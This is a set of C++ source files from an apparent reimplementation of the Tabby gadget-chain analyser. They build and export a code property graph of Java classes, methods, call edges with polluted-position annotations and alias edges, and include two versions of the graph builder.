             "IS_SOURCE,IS_SINK,SINK_TYPE,TRIGGER_CONDITION\n";
  rels << ":START_ID,:END_ID,:TYPE,POLLUTED_POSITION\n";

  CsvExportStats stats;
  db.for_each_node([&](const graph::Node& node) {
    if (node.label == kClassLabel) {
      classes << node.id << ',' << node.label << ',' << prop_cell(node, kPropName) << ','
              << prop_cell(node, kPropInterface) << ',' << prop_cell(node, kPropSerializable)
              << ',' << prop_cell(node, kPropAbstractClass) << ','
              << prop_cell(node, kPropPhantom) << ',' << prop_cell(node, kPropSuper) << ','
              << prop_cell(node, kPropJar) << '\n';
      ++stats.class_rows;
    } else if (node.label == kMethodLabel) {
      methods << node.id << ',' << node.label << ',' << prop_cell(node, kPropName) << ','
              << prop_cell(node, kPropClassName) << ',' << prop_cell(node, kPropSignature) << ','
              << prop_cell(node, kPropParamCount) << ',' << prop_cell(node, kPropStatic) << ','
              << prop_cell(node, kPropAbstract) << ',' << prop_cell(node, kPropIsSource) << ','
              << prop_cell(node, kPropIsSink) << ',' << prop_cell(node, kPropSinkType) << ','
              << prop_cell(node, kPropTriggerCondition) << '\n';
      ++stats.method_rows;
    }
  });
  db.for_each_edge([&](const graph::Edge& edge) {
    std::string pp;
    if (const graph::Value* v = edge.prop(std::string(kPropPollutedPosition))) {
      pp = csv_escape(graph::to_string(*v));
    }
    rels << edge.from << ',' << edge.to << ',' << edge.type << ',' << pp << '\n';
    ++stats.relationship_rows;
  });

  if (!classes.good() || !methods.good() || !rels.good()) {
    return util::Error{"write failure while exporting CSVs to " + dir.string()};
  }
  return stats;
}

}  // namespace tabby::cpg
