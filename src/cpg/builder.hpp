// Code Property Graph construction (§III-B): merges the Object Relationship
// Graph (class/method nodes, EXTEND/INTERFACE/HAS edges), the Precise Call
// Graph (CALL edges annotated with Polluted_Position, pruned when all-∞)
// and the Method Alias Graph (ALIAS edges, Formula 1) into one GraphDb,
// annotating sink methods with their Trigger_Condition and marking
// deserialization sources.
#pragma once

#include <string>

#include "analysis/controllability.hpp"
#include "cpg/sinks.hpp"
#include "graph/graph.hpp"
#include "jir/hierarchy.hpp"
#include "jir/model.hpp"
#include "util/deadline.hpp"
#include "util/memory_budget.hpp"

namespace tabby::util {
class Executor;
}

namespace tabby::cpg {

struct CpgOptions {
  /// MCG -> PCG pruning: drop CALL edges whose PP is all-∞ (§III-C). Turning
  /// this off keeps the raw MCG (ablation: quantifies the path-explosion
  /// relief the paper claims).
  bool prune_uncontrollable_calls = true;
  /// MAG construction (ablation: without ALIAS edges polymorphic chains like
  /// URLDNS cannot be linked).
  bool build_alias_edges = true;
  /// Restrict the MAG to superclass overrides (skip interfaces): the
  /// "incomplete handling of Java polymorphism" the paper attributes to
  /// GadgetInspector (§IV-F). Used by the baseline tools.
  bool alias_superclass_only = false;
  /// Create the (label, property) indexes the finder and Cypher layer use.
  bool create_indexes = true;
  /// Jar/archive name recorded on class nodes (provenance).
  std::string jar_name;

  /// When set (and offering >1 worker), the side-effect-free stages fan out
  /// across it: controllability summaries (SCC waves), per-method call/alias
  /// payloads, and index back-fills. Graph mutation stays serial in the
  /// historical order, so the built CPG is bit-identical at any worker
  /// count — including to a run with no executor at all. Borrowed, not
  /// owned; must outlive build_cpg().
  util::Executor* executor = nullptr;

  /// Build-phase wall-clock budget, polled between payload batches (PCG) and
  /// at phase boundaries. Once expired the builder stops summarising further
  /// methods and returns a structurally valid but incomplete CPG with
  /// Cpg::deadline_hit set — callers must treat such a build as degraded and
  /// never cache it. The default never expires. Not part of
  /// options_fingerprint(): it bounds the build, it does not select a graph.
  util::Deadline deadline;
  /// Optional byte ledger the transient payload batches charge against
  /// (telemetry; the batch size itself is fixed for determinism). Borrowed.
  util::MemoryBudget* memory = nullptr;

  analysis::AnalysisOptions analysis;
  SinkRegistry sinks = SinkRegistry::defaults();
  SourceRegistry sources = SourceRegistry::defaults();
};

struct CpgStats {
  std::size_t class_nodes = 0;
  std::size_t method_nodes = 0;
  std::size_t relationship_edges = 0;  // total, the paper's Table VIII column
  std::size_t call_edges = 0;
  std::size_t alias_edges = 0;
  std::size_t pruned_call_sites = 0;
  std::size_t source_methods = 0;
  std::size_t sink_methods = 0;
  double build_seconds = 0.0;
};

struct Cpg {
  graph::GraphDb db;
  CpgStats stats;
  /// Degradation markers, deliberately outside CpgStats (which is serialized
  /// into cache snapshots — a degraded build is never published, so these
  /// never need to round-trip).
  bool deadline_hit = false;       // CpgOptions::deadline expired mid-build
  std::size_t methods_skipped = 0; // methods left unsummarised by the cut
};

/// Builds the full CPG for a linked program.
Cpg build_cpg(const jir::Program& program, const CpgOptions& options = {});

/// (Re)creates the standard CPG indexes on a GraphDb — the exact set
/// build_cpg installs when `create_indexes` is on. Needed after a graph
/// store or cache-snapshot load: persistence stores data, not index
/// structures (like a fresh Neo4j store after import).
void create_standard_indexes(graph::GraphDb& db, util::Executor* executor = nullptr);

/// Stable digest of every CpgOptions field that can change the built graph
/// (flags, jar name, analysis options, sink/source registries). Part of the
/// incremental cache's snapshot key: two runs share a snapshot only if they
/// would build the identical CPG.
std::uint64_t options_fingerprint(const CpgOptions& options);

}  // namespace tabby::cpg
