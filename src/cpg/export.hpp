// CSV export of a CPG in neo4j-admin bulk-import layout. The real Tabby
// writes exactly such CSV files and imports them into Neo4j; this keeps the
// interchange path available (e.g. to load a CPG produced here into an
// actual Neo4j instance).
//
// Files written into `dir`:
//   CLASSES.csv        id:ID, :LABEL, NAME, IS_INTERFACE, IS_SERIALIZABLE, ...
//   METHODS.csv        id:ID, :LABEL, NAME, CLASSNAME, SIGNATURE, ...
//   RELATIONSHIPS.csv  :START_ID, :END_ID, :TYPE, POLLUTED_POSITION
#pragma once

#include <filesystem>

#include "graph/graph.hpp"
#include "util/result.hpp"

namespace tabby::cpg {

struct CsvExportStats {
  std::size_t class_rows = 0;
  std::size_t method_rows = 0;
  std::size_t relationship_rows = 0;
};

util::Result<CsvExportStats> export_csv(const graph::GraphDb& db,
                                        const std::filesystem::path& dir);

}  // namespace tabby::cpg
