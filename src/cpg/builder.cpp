#include "cpg/builder.hpp"

#include <algorithm>
#include <deque>
#include <unordered_map>
#include <unordered_set>

#include "cpg/schema.hpp"
#include "obs/obs.hpp"
#include "util/digest.hpp"
#include "util/thread_pool.hpp"
#include "util/timer.hpp"

namespace tabby::cpg {

namespace {

using graph::NodeId;
using graph::PropertyMap;
using graph::Value;

class Builder {
 public:
  Builder(const jir::Program& program, const CpgOptions& options)
      : program_(program), hierarchy_(program), options_(options) {}

  Cpg run() {
    obs::Span span("cpg.build");
    util::Stopwatch watch;
    {
      TABBY_SPAN("cpg.org");
      build_org();
    }
    {
      TABBY_SPAN("cpg.pcg");
      build_pcg();
    }
    if (options_.build_alias_edges) {
      // A deadline that fired during the PCG also skips the MAG: the build is
      // already degraded, and alias BFS over a big hierarchy is not free.
      // Indexes are still created — the finder requires them.
      if (!options_.deadline.unlimited() && options_.deadline.expired()) {
        deadline_hit_ = true;
      } else {
        TABBY_SPAN("cpg.mag");
        build_mag();
      }
    }
    if (options_.create_indexes) {
      TABBY_SPAN("cpg.index");
      create_indexes();
    }

    Cpg result;
    collect_stats();
    stats_.build_seconds = watch.elapsed_seconds();
    result.stats = stats_;
    result.deadline_hit = deadline_hit_;
    result.methods_skipped = methods_skipped_;
    result.db = std::move(db_);
    // Mirror the CpgStats the caller sees into the counter catalog, so a
    // trace is self-describing and tests can cross-check the two.
    obs::counter_add("cpg.class_nodes", stats_.class_nodes);
    obs::counter_add("cpg.method_nodes", stats_.method_nodes);
    obs::counter_add("cpg.call_edges", stats_.call_edges);
    obs::counter_add("cpg.alias_edges", stats_.alias_edges);
    obs::counter_add("cpg.call_sites_pruned", stats_.pruned_call_sites);
    return result;
  }

 private:
  // --- ORG: class/method nodes, EXTEND/INTERFACE/HAS --------------------

  void build_org() {
    for (const jir::ClassDecl& cls : program_.classes()) {
      NodeId cn = class_node(cls.name);
      for (std::size_t mi = 0; mi < cls.methods.size(); ++mi) {
        jir::MethodId id{*program_.class_index(cls.name), static_cast<std::uint32_t>(mi)};
        NodeId mn = method_node_for(id);
        db_.add_edge(cn, mn, std::string(kHasEdge));
      }
    }
    // Hierarchy edges once every class node exists (phantoms created lazily).
    for (const jir::ClassDecl& cls : program_.classes()) {
      NodeId cn = class_nodes_.at(cls.name);
      if (!cls.super.empty()) {
        db_.add_edge(cn, class_node(cls.super), std::string(kExtendEdge));
      }
      for (const std::string& iface : cls.interfaces) {
        db_.add_edge(cn, class_node(iface), std::string(kInterfaceEdge));
      }
    }
  }

  NodeId class_node(const std::string& name) {
    auto it = class_nodes_.find(name);
    if (it != class_nodes_.end()) return it->second;

    const jir::ClassDecl* decl = program_.find_class(name);
    PropertyMap props;
    props[std::string(kPropName)] = name;
    props[std::string(kPropPhantom)] = decl == nullptr;
    if (!options_.jar_name.empty()) props[std::string(kPropJar)] = options_.jar_name;
    if (decl != nullptr) {
      props[std::string(kPropInterface)] = decl->is_interface;
      props[std::string(kPropAbstractClass)] = decl->mods.is_abstract;
      props[std::string(kPropSerializable)] = hierarchy_.is_serializable(name);
      props[std::string(kPropSuper)] = decl->super;
    }
    NodeId id = db_.add_node(std::string(kClassLabel), std::move(props));
    class_nodes_.emplace(name, id);
    return id;
  }

  NodeId method_node_for(jir::MethodId id) {
    auto it = method_nodes_.find(id);
    if (it != method_nodes_.end()) return it->second;

    const jir::ClassDecl& cls = program_.class_of(id);
    const jir::Method& m = program_.method(id);
    NodeId node = make_method_node(cls.name, m.name, m.nargs(), /*phantom=*/false,
                                   m.mods.is_static, m.mods.is_abstract,
                                   m.has_body() && hierarchy_.is_serializable(cls.name));
    method_nodes_.emplace(id, node);
    return node;
  }

  /// Phantom method node for calls into classes (or overloads) the program
  /// does not contain. Keyed by signature.
  NodeId phantom_method_node(const std::string& owner, const std::string& name, int nargs) {
    std::string sig = method_signature(owner, name, nargs);
    auto it = phantom_methods_.find(sig);
    if (it != phantom_methods_.end()) return it->second;
    NodeId node = make_method_node(owner, name, nargs, /*phantom=*/true, /*is_static=*/false,
                                   /*is_abstract=*/true, /*source_eligible=*/false);
    db_.add_edge(class_node(owner), node, std::string(kHasEdge));
    phantom_methods_.emplace(std::move(sig), node);
    return node;
  }

  NodeId make_method_node(const std::string& owner, const std::string& name, int nargs,
                          bool phantom, bool is_static, bool is_abstract, bool source_eligible) {
    PropertyMap props;
    props[std::string(kPropName)] = name;
    props[std::string(kPropClassName)] = owner;
    props[std::string(kPropSignature)] = method_signature(owner, name, nargs);
    props[std::string(kPropParamCount)] = static_cast<std::int64_t>(nargs);
    props[std::string(kPropStatic)] = is_static;
    props[std::string(kPropAbstract)] = is_abstract;
    props[std::string(kPropPhantom)] = phantom;

    bool is_source = source_eligible && options_.sources.is_source_name(name);
    props[std::string(kPropIsSource)] = is_source;

    const SinkSpec* sink = options_.sinks.match(owner, name);
    props[std::string(kPropIsSink)] = sink != nullptr;
    if (sink != nullptr) {
      props[std::string(kPropSinkType)] = sink->type;
      std::vector<std::int64_t> tc(sink->trigger.begin(), sink->trigger.end());
      props[std::string(kPropTriggerCondition)] = std::move(tc);
    }
    return db_.add_node(std::string(kMethodLabel), std::move(props));
  }

  // --- PCG: CALL edges with Polluted_Position ---------------------------

  /// One outgoing CALL edge of a method, with repeated calls of the same
  /// callee already folded to the position-wise most controllable PP — the
  /// merge add_call_edge() used to perform against the live edge. Folding
  /// per method is equivalent: edges from different methods never share a
  /// `from` node, so the historical find_edge() merge only ever combined
  /// sites of one method.
  struct CallPayload {
    std::optional<jir::MethodId> resolved;
    jir::MethodRef declared;              // phantom target when !resolved
    std::vector<std::int64_t> pp;         // merged Polluted_Position
    std::size_t stmt_index = 0;           // first surviving site (edge prop)
    jir::InvokeKind kind = jir::InvokeKind::Virtual;
  };

  struct MethodPayload {
    Value action;                         // Action summary node property
    std::vector<CallPayload> calls;       // first-occurrence order
    std::size_t pruned = 0;
  };

  /// Approximate heap bytes a method payload pins between the payload and
  /// instantiation halves of a batch (the transient store --mem-budget
  /// accounts for the build phase).
  static std::size_t payload_bytes(const MethodPayload& payload) {
    std::size_t bytes = payload.calls.capacity() * sizeof(CallPayload);
    for (const CallPayload& call : payload.calls) {
      bytes += call.pp.capacity() * sizeof(std::int64_t);
    }
    return bytes;
  }

  void build_pcg() {
    analysis::ControllabilityAnalysis analysis(program_, hierarchy_, options_.analysis);
    util::Executor* executor = options_.executor;
    bool parallel = executor != nullptr && executor->concurrency() > 1;
    if (parallel) analysis.precompute(executor);

    std::vector<jir::MethodId> methods = program_.all_methods();

    // The PCG is built in fixed-size batches: a parallel, side-effect-free
    // payload pass over the batch followed by serial graph mutation in
    // all_methods() order. Batches run in method order too, so the built
    // graph is byte-identical to the historical single-pass build at any
    // worker count; the batch seams are where the deadline is polled (the
    // documented overshoot bound is one batch, not one whole classpath) and
    // where the transient payload bytes are charged/released. The size is a
    // compile-time constant: determinism requires the seams to never move.
    constexpr std::size_t kPayloadBatch = 2048;
    for (std::size_t base = 0; base < methods.size(); base += kPayloadBatch) {
      if (!options_.deadline.unlimited() && options_.deadline.expired()) {
        deadline_hit_ = true;
        methods_skipped_ += methods.size() - base;
        break;
      }
      std::size_t count = std::min(kPayloadBatch, methods.size() - base);

      // Payload phase: per-method, side-effect free. In parallel mode every
      // summary is already cached (pure reads); serially summary() computes
      // on demand in all_methods() order, the historical compute order.
      std::vector<MethodPayload> payloads(count);
      util::run_indexed(parallel ? executor : nullptr, count, [&](std::size_t i) {
        jir::MethodId id = methods[base + i];
        if (!program_.method(id).has_body()) return;
        const analysis::MethodSummary& summary =
            parallel ? analysis.cached_summary(id) : analysis.summary(id);
        MethodPayload& payload = payloads[i];
        payload.action = Value{summary.action.to_strings()};
        for (const analysis::CallSite& site : summary.call_sites) {
          if (options_.prune_uncontrollable_calls && analysis::all_uncontrollable(site.pp)) {
            ++payload.pruned;
            continue;
          }
          add_call_payload(payload.calls, site);
        }
      });

      std::size_t batch_bytes = 0;
      for (const MethodPayload& payload : payloads) batch_bytes += payload_bytes(payload);
      util::ScopedCharge charge(options_.memory, batch_bytes);

      // Instantiation phase: serial graph mutation, same order as ever.
      for (std::size_t i = 0; i < count; ++i) {
        jir::MethodId id = methods[base + i];
        if (!program_.method(id).has_body()) continue;
        MethodPayload& payload = payloads[i];
        stats_.pruned_call_sites += payload.pruned;

        NodeId from = method_nodes_.at(id);
        db_.set_node_prop(from, std::string(kPropAction), std::move(payload.action));

        for (CallPayload& call : payload.calls) {
          NodeId to = call.resolved ? method_node_for(*call.resolved)
                                    : phantom_method_node(call.declared.owner, call.declared.name,
                                                          call.declared.nargs);
          PropertyMap props;
          props[std::string(kPropPollutedPosition)] = std::move(call.pp);
          props[std::string(kPropStmtIndex)] = static_cast<std::int64_t>(call.stmt_index);
          props[std::string(kPropInvokeKind)] = std::string(jir::to_string(call.kind));
          db_.add_edge(from, to, std::string(kCallEdge), std::move(props));
        }
      }
    }

    obs::counter_add("analysis.methods_analyzed", analysis.analyzed_count());
    if (methods_skipped_ > 0) obs::counter_add("cpg.methods_skipped", methods_skipped_);
  }

  static void add_call_payload(std::vector<CallPayload>& calls, const analysis::CallSite& site) {
    // Merge repeated calls of the same callee into one edge with the
    // position-wise most controllable PP. Callee identity matches graph-node
    // identity: resolved ids and phantom signatures map to distinct nodes.
    for (CallPayload& existing : calls) {
      bool same_callee = site.resolved
                             ? (existing.resolved && *existing.resolved == *site.resolved)
                             : (!existing.resolved && existing.declared.owner == site.declared.owner &&
                                existing.declared.name == site.declared.name &&
                                existing.declared.nargs == site.declared.nargs);
      if (!same_callee) continue;
      existing.pp.resize(std::max(existing.pp.size(), site.pp.size()), analysis::kUncontrollable);
      for (std::size_t i = 0; i < site.pp.size(); ++i) {
        existing.pp[i] = std::min(existing.pp[i], site.pp[i]);
      }
      return;
    }
    CallPayload fresh;
    fresh.resolved = site.resolved;
    fresh.declared = site.declared;
    fresh.pp.assign(site.pp.begin(), site.pp.end());
    fresh.stmt_index = site.stmt_index;
    fresh.kind = site.kind;
    calls.push_back(std::move(fresh));
  }

  // --- MAG: ALIAS edges (Formula 1, generalised to nearest declaration) --

  void build_mag() {
    // Payload phase: the supertype BFS per method is a pure read of the
    // program and hierarchy, so it fans out; targets come back in BFS visit
    // order. Edge creation stays serial below.
    std::vector<jir::MethodId> methods = program_.all_methods();
    std::vector<std::vector<jir::MethodId>> targets(methods.size());
    util::run_indexed(options_.executor, methods.size(),
                      [&](std::size_t i) { targets[i] = alias_targets(methods[i]); });

    for (std::size_t i = 0; i < methods.size(); ++i) {
      if (targets[i].empty()) continue;
      NodeId from = method_nodes_.at(methods[i]);
      for (jir::MethodId target : targets[i]) {
        NodeId to = method_node_for(target);
        if (!db_.find_edge(from, to, kAliasEdge)) {
          db_.add_edge(from, to, std::string(kAliasEdge));
        }
      }
    }
  }

  /// Methods `id` overrides, nearest declaration on each supertype path
  /// (Formula 1, generalised). BFS up the lattice; stop exploring past a
  /// declaration (transitive aliasing is then a chain of ALIAS edges).
  std::vector<jir::MethodId> alias_targets(jir::MethodId id) const {
    const jir::ClassDecl& cls = program_.class_of(id);
    const jir::Method& m = program_.method(id);
    std::vector<jir::MethodId> out;
    if (m.name == "<init>" || m.name == "<clinit>") return out;  // constructors never alias

    auto supertypes_of = [this](const std::string& name) {
      if (!options_.alias_superclass_only) return hierarchy_.direct_supertypes(name);
      const jir::ClassDecl* decl = program_.find_class(name);
      std::vector<std::string> supers;
      if (decl != nullptr && !decl->super.empty()) supers.push_back(decl->super);
      return supers;
    };

    std::deque<std::string> work;
    std::unordered_set<std::string> seen{cls.name};
    for (const std::string& super : supertypes_of(cls.name)) work.push_back(super);
    while (!work.empty()) {
      std::string current = std::move(work.front());
      work.pop_front();
      if (!seen.insert(current).second) continue;
      if (auto target = program_.find_method(current, m.name, m.nargs())) {
        out.push_back(*target);
        continue;  // nearest declaration on this path found
      }
      for (const std::string& super : supertypes_of(current)) {
        work.push_back(super);
      }
    }
    return out;
  }

  void create_indexes() { create_standard_indexes(db_, options_.executor); }

  void collect_stats() {
    graph::GraphStats gs = db_.stats();
    stats_.class_nodes = gs.nodes_by_label[std::string(kClassLabel)];
    stats_.method_nodes = gs.nodes_by_label[std::string(kMethodLabel)];
    stats_.relationship_edges = gs.edge_count;
    stats_.call_edges = gs.edges_by_type[std::string(kCallEdge)];
    stats_.alias_edges = gs.edges_by_type[std::string(kAliasEdge)];
    db_.for_each_node([this](const graph::Node& n) {
      if (n.label != kMethodLabel) return;
      if (n.prop_bool(std::string(kPropIsSource))) ++stats_.source_methods;
      if (n.prop_bool(std::string(kPropIsSink))) ++stats_.sink_methods;
    });
  }

  const jir::Program& program_;
  jir::Hierarchy hierarchy_;
  const CpgOptions& options_;
  graph::GraphDb db_;
  CpgStats stats_;
  bool deadline_hit_ = false;
  std::size_t methods_skipped_ = 0;

  std::unordered_map<std::string, NodeId> class_nodes_;
  std::unordered_map<jir::MethodId, NodeId, jir::MethodIdHash> method_nodes_;
  std::unordered_map<std::string, NodeId> phantom_methods_;
};

}  // namespace

void create_standard_indexes(graph::GraphDb& db, util::Executor* executor) {
  db.create_indexes({{std::string(kMethodLabel), std::string(kPropName)},
                     {std::string(kMethodLabel), std::string(kPropClassName)},
                     {std::string(kMethodLabel), std::string(kPropSignature)},
                     {std::string(kMethodLabel), std::string(kPropIsSink)},
                     {std::string(kMethodLabel), std::string(kPropIsSource)},
                     {std::string(kClassLabel), std::string(kPropName)}},
                    executor);
}

std::uint64_t options_fingerprint(const CpgOptions& options) {
  util::Fnv1a h;
  h.update("cpg-options-v1");
  h.update_bool(options.prune_uncontrollable_calls);
  h.update_bool(options.build_alias_edges);
  h.update_bool(options.alias_superclass_only);
  h.update_bool(options.create_indexes);
  h.update_sized(options.jar_name);
  h.update_u64(analysis::options_fingerprint(options.analysis));
  h.update_u64(options.sinks.size());
  for (const SinkSpec& sink : options.sinks.all()) {
    h.update_sized(sink.owner);
    h.update_sized(sink.name);
    h.update_sized(sink.type);
    h.update_u64(sink.trigger.size());
    for (int pos : sink.trigger) h.update_u64(static_cast<std::uint64_t>(pos));
  }
  h.update_u64(options.sources.names().size());
  for (const std::string& name : options.sources.names()) h.update_sized(name);
  return h.digest();
}

Cpg build_cpg(const jir::Program& program, const CpgOptions& options) {
  return Builder(program, options).run();
}

}  // namespace tabby::cpg
