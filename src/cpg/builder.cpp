#include "cpg/builder.hpp"

#include <deque>
#include <unordered_map>
#include <unordered_set>

#include "cpg/schema.hpp"
#include "util/timer.hpp"

namespace tabby::cpg {

namespace {

using graph::NodeId;
using graph::PropertyMap;
using graph::Value;

class Builder {
 public:
  Builder(const jir::Program& program, const CpgOptions& options)
      : program_(program), hierarchy_(program), options_(options) {}

  Cpg run() {
    util::Stopwatch watch;
    build_org();
    build_pcg();
    if (options_.build_alias_edges) build_mag();
    if (options_.create_indexes) create_indexes();

    Cpg result;
    collect_stats();
    stats_.build_seconds = watch.elapsed_seconds();
    result.stats = stats_;
    result.db = std::move(db_);
    return result;
  }

 private:
  // --- ORG: class/method nodes, EXTEND/INTERFACE/HAS --------------------

  void build_org() {
    for (const jir::ClassDecl& cls : program_.classes()) {
      NodeId cn = class_node(cls.name);
      for (std::size_t mi = 0; mi < cls.methods.size(); ++mi) {
        jir::MethodId id{*program_.class_index(cls.name), static_cast<std::uint32_t>(mi)};
        NodeId mn = method_node_for(id);
        db_.add_edge(cn, mn, std::string(kHasEdge));
      }
    }
    // Hierarchy edges once every class node exists (phantoms created lazily).
    for (const jir::ClassDecl& cls : program_.classes()) {
      NodeId cn = class_nodes_.at(cls.name);
      if (!cls.super.empty()) {
        db_.add_edge(cn, class_node(cls.super), std::string(kExtendEdge));
      }
      for (const std::string& iface : cls.interfaces) {
        db_.add_edge(cn, class_node(iface), std::string(kInterfaceEdge));
      }
    }
  }

  NodeId class_node(const std::string& name) {
    auto it = class_nodes_.find(name);
    if (it != class_nodes_.end()) return it->second;

    const jir::ClassDecl* decl = program_.find_class(name);
    PropertyMap props;
    props[std::string(kPropName)] = name;
    props[std::string(kPropPhantom)] = decl == nullptr;
    if (!options_.jar_name.empty()) props[std::string(kPropJar)] = options_.jar_name;
    if (decl != nullptr) {
      props[std::string(kPropInterface)] = decl->is_interface;
      props[std::string(kPropAbstractClass)] = decl->mods.is_abstract;
      props[std::string(kPropSerializable)] = hierarchy_.is_serializable(name);
      props[std::string(kPropSuper)] = decl->super;
    }
    NodeId id = db_.add_node(std::string(kClassLabel), std::move(props));
    class_nodes_.emplace(name, id);
    return id;
  }

  NodeId method_node_for(jir::MethodId id) {
    auto it = method_nodes_.find(id);
    if (it != method_nodes_.end()) return it->second;

    const jir::ClassDecl& cls = program_.class_of(id);
    const jir::Method& m = program_.method(id);
    NodeId node = make_method_node(cls.name, m.name, m.nargs(), /*phantom=*/false,
                                   m.mods.is_static, m.mods.is_abstract,
                                   m.has_body() && hierarchy_.is_serializable(cls.name));
    method_nodes_.emplace(id, node);
    return node;
  }

  /// Phantom method node for calls into classes (or overloads) the program
  /// does not contain. Keyed by signature.
  NodeId phantom_method_node(const std::string& owner, const std::string& name, int nargs) {
    std::string sig = method_signature(owner, name, nargs);
    auto it = phantom_methods_.find(sig);
    if (it != phantom_methods_.end()) return it->second;
    NodeId node = make_method_node(owner, name, nargs, /*phantom=*/true, /*is_static=*/false,
                                   /*is_abstract=*/true, /*source_eligible=*/false);
    db_.add_edge(class_node(owner), node, std::string(kHasEdge));
    phantom_methods_.emplace(std::move(sig), node);
    return node;
  }

  NodeId make_method_node(const std::string& owner, const std::string& name, int nargs,
                          bool phantom, bool is_static, bool is_abstract, bool source_eligible) {
    PropertyMap props;
    props[std::string(kPropName)] = name;
    props[std::string(kPropClassName)] = owner;
    props[std::string(kPropSignature)] = method_signature(owner, name, nargs);
    props[std::string(kPropParamCount)] = static_cast<std::int64_t>(nargs);
    props[std::string(kPropStatic)] = is_static;
    props[std::string(kPropAbstract)] = is_abstract;
    props[std::string(kPropPhantom)] = phantom;

    bool is_source = source_eligible && options_.sources.is_source_name(name);
    props[std::string(kPropIsSource)] = is_source;

    const SinkSpec* sink = options_.sinks.match(owner, name);
    props[std::string(kPropIsSink)] = sink != nullptr;
    if (sink != nullptr) {
      props[std::string(kPropSinkType)] = sink->type;
      std::vector<std::int64_t> tc(sink->trigger.begin(), sink->trigger.end());
      props[std::string(kPropTriggerCondition)] = std::move(tc);
    }
    return db_.add_node(std::string(kMethodLabel), std::move(props));
  }

  // --- PCG: CALL edges with Polluted_Position ---------------------------

  void build_pcg() {
    analysis::ControllabilityAnalysis analysis(program_, hierarchy_, options_.analysis);
    for (jir::MethodId id : program_.all_methods()) {
      const jir::Method& m = program_.method(id);
      if (!m.has_body()) continue;
      const analysis::MethodSummary& summary = analysis.summary(id);

      NodeId from = method_nodes_.at(id);
      db_.set_node_prop(from, std::string(kPropAction),
                        Value{summary.action.to_strings()});

      for (const analysis::CallSite& site : summary.call_sites) {
        if (options_.prune_uncontrollable_calls && analysis::all_uncontrollable(site.pp)) {
          ++stats_.pruned_call_sites;
          continue;
        }
        NodeId to = site.resolved
                        ? method_node_for(*site.resolved)
                        : phantom_method_node(site.declared.owner, site.declared.name,
                                              site.declared.nargs);
        add_call_edge(from, to, site);
      }
    }
  }

  void add_call_edge(NodeId from, NodeId to, const analysis::CallSite& site) {
    // Merge repeated calls of the same callee into one edge with the
    // position-wise most controllable PP.
    if (auto existing = db_.find_edge(from, to, kCallEdge)) {
      const Value* prop = db_.edge(*existing).prop(std::string(kPropPollutedPosition));
      if (const auto* old_pp = std::get_if<std::vector<std::int64_t>>(prop)) {
        std::vector<std::int64_t> merged = *old_pp;
        merged.resize(std::max(merged.size(), site.pp.size()), analysis::kUncontrollable);
        for (std::size_t i = 0; i < site.pp.size(); ++i) {
          merged[i] = std::min(merged[i], site.pp[i]);
        }
        db_.set_edge_prop(*existing, std::string(kPropPollutedPosition), Value{std::move(merged)});
      }
      return;
    }
    PropertyMap props;
    props[std::string(kPropPollutedPosition)] =
        std::vector<std::int64_t>(site.pp.begin(), site.pp.end());
    props[std::string(kPropStmtIndex)] = static_cast<std::int64_t>(site.stmt_index);
    props[std::string(kPropInvokeKind)] = std::string(jir::to_string(site.kind));
    db_.add_edge(from, to, std::string(kCallEdge), std::move(props));
  }

  // --- MAG: ALIAS edges (Formula 1, generalised to nearest declaration) --

  void build_mag() {
    for (jir::MethodId id : program_.all_methods()) {
      const jir::ClassDecl& cls = program_.class_of(id);
      const jir::Method& m = program_.method(id);
      if (m.name == "<init>" || m.name == "<clinit>") continue;  // constructors never alias
      NodeId from = method_nodes_.at(id);

      // BFS up the supertype lattice; link to the nearest declaration on
      // each path and stop exploring past it (transitive aliasing is then a
      // chain of ALIAS edges).
      auto supertypes_of = [this](const std::string& name) {
        if (!options_.alias_superclass_only) return hierarchy_.direct_supertypes(name);
        const jir::ClassDecl* decl = program_.find_class(name);
        std::vector<std::string> out;
        if (decl != nullptr && !decl->super.empty()) out.push_back(decl->super);
        return out;
      };

      std::deque<std::string> work;
      std::unordered_set<std::string> seen{cls.name};
      for (const std::string& super : supertypes_of(cls.name)) work.push_back(super);
      while (!work.empty()) {
        std::string current = std::move(work.front());
        work.pop_front();
        if (!seen.insert(current).second) continue;
        if (auto target = program_.find_method(current, m.name, m.nargs())) {
          NodeId to = method_node_for(*target);
          if (!db_.find_edge(from, to, kAliasEdge)) {
            db_.add_edge(from, to, std::string(kAliasEdge));
          }
          continue;  // nearest declaration on this path found
        }
        for (const std::string& super : supertypes_of(current)) {
          work.push_back(super);
        }
      }
    }
  }

  void create_indexes() {
    db_.create_index(std::string(kMethodLabel), std::string(kPropName));
    db_.create_index(std::string(kMethodLabel), std::string(kPropClassName));
    db_.create_index(std::string(kMethodLabel), std::string(kPropSignature));
    db_.create_index(std::string(kMethodLabel), std::string(kPropIsSink));
    db_.create_index(std::string(kMethodLabel), std::string(kPropIsSource));
    db_.create_index(std::string(kClassLabel), std::string(kPropName));
  }

  void collect_stats() {
    graph::GraphStats gs = db_.stats();
    stats_.class_nodes = gs.nodes_by_label[std::string(kClassLabel)];
    stats_.method_nodes = gs.nodes_by_label[std::string(kMethodLabel)];
    stats_.relationship_edges = gs.edge_count;
    stats_.call_edges = gs.edges_by_type[std::string(kCallEdge)];
    stats_.alias_edges = gs.edges_by_type[std::string(kAliasEdge)];
    db_.for_each_node([this](const graph::Node& n) {
      if (n.label != kMethodLabel) return;
      if (n.prop_bool(std::string(kPropIsSource))) ++stats_.source_methods;
      if (n.prop_bool(std::string(kPropIsSink))) ++stats_.sink_methods;
    });
  }

  const jir::Program& program_;
  jir::Hierarchy hierarchy_;
  const CpgOptions& options_;
  graph::GraphDb db_;
  CpgStats stats_;

  std::unordered_map<std::string, NodeId> class_nodes_;
  std::unordered_map<jir::MethodId, NodeId, jir::MethodIdHash> method_nodes_;
  std::unordered_map<std::string, NodeId> phantom_methods_;
};

}  // namespace

Cpg build_cpg(const jir::Program& program, const CpgOptions& options) {
  return Builder(program, options).run();
}

}  // namespace tabby::cpg
