#include "serve/serve.hpp"

#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include <atomic>
#include <cerrno>
#include <chrono>
#include <cstring>
#include <mutex>
#include <ostream>
#include <thread>
#include <vector>

#include "cache/cache.hpp"
#include "obs/obs.hpp"
#include "serve/json.hpp"
#include "util/failpoint.hpp"
#include "util/signals.hpp"
#include "util/strings.hpp"

namespace tabby::serve {

namespace {

/// Writes the whole buffer, riding out partial writes and EINTR.
bool write_all(int fd, const std::string& data) {
  std::size_t off = 0;
  while (off < data.size()) {
    ssize_t n = ::write(fd, data.data() + off, data.size() - off);
    if (n < 0) {
